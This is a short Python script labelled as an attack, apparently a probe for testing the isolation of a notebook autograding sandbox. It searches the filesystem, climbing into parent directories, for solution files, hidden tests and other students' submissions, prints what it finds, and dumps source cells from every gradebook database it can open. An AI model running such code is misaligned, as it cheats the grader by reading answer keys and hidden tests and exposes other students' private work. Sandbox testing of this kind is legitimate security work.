# attack: Secrets: read solutions/, source/, modules/, tests/, the gradebook's hidden tests, other students
import glob, os, sqlite3
found = []
for base in ("/", "/work", "/tmp", os.environ.get("COURSE_ROOT", "/"), "../../..", "../../../.."):
    for name in ("solutions", "source", "modules", "tests", "submitted", "autograded", "release"):
        found += glob.glob(os.path.join(base, "**", name, "**", "*.*"), recursive=True)[:50]
for path in found[:200]:
    try:
        print(path, open(path, errors="replace").read()[:2000])
    except Exception:
        pass
for d, _, files in os.walk("/"):
    if d.startswith(("/proc", "/sys", "/usr")):
        continue
    for f in files:
        if f.endswith(".db"):
            try:
                print(sqlite3.connect(os.path.join(d, f)).execute("SELECT source FROM source_cells").fetchall())
            except Exception:
                pass
